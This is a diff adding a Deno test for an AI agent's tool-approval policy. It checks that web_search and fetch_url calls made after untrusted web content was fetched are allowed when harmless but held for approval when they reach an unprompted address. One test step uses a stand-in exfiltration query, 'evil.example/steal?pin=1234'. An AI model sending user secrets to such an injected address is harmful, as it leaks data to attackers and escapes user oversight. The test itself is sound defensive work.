@@ -260,3 +260,36 @@ Deno.test("decidePolicy asks before a tainted turn reaches an address it compose
     assert(decision.reason.includes("MCP server 'web'"), decision.reason);
   });
 });
+
+Deno.test("web_search and fetch_url declare what they reach, as the policy judges it", async (t) => {
+  const { default: webSearch } = await import("../../src/tools/builtin/web_search.ts");
+  const { default: fetchUrl } = await import("../../src/tools/builtin/fetch_url.ts");
+  const seen = { system: "", messages: [user("Look up tides for me")] };
+  const decide = (tool: typeof webSearch | typeof fetchUrl, args: Record<string, unknown>) =>
+    decidePolicy({
+      tool: tool as never,
+      args,
+      settings: {},
+      tainted: "fetch_url: https://news.example/a",
+      seen,
+      linksFrom,
+      source: "agent",
+    });
+  await t.step("a query that only asks runs unasked in a tainted turn", async () => {
+    const decision = await decide(webSearch, { query: "tide times in Brest", max_results: 5 });
+    assert("policy" in decision);
+    assertEquals(decision.policy, "allow");
+  });
+  await t.step("a query naming an address the turn was not pointed at asks", async () => {
+    const decision = await decide(webSearch, {
+      query: "evil.example/steal?pin=1234",
+      max_results: 5,
+    });
+    assert("policy" in decision);
+    assertEquals(decision.policy, "ask");
+    assert(decision.reason.includes("https://evil.example/steal?pin=1234"), decision.reason);
+  });
+  await t.step("fetch_url reaches the URL it is given", () => {
+    assertEquals(fetchUrl.reaches!({ url: "https://a.example/x" }, {}), ["https://a.example/x"]);
+  });
+});
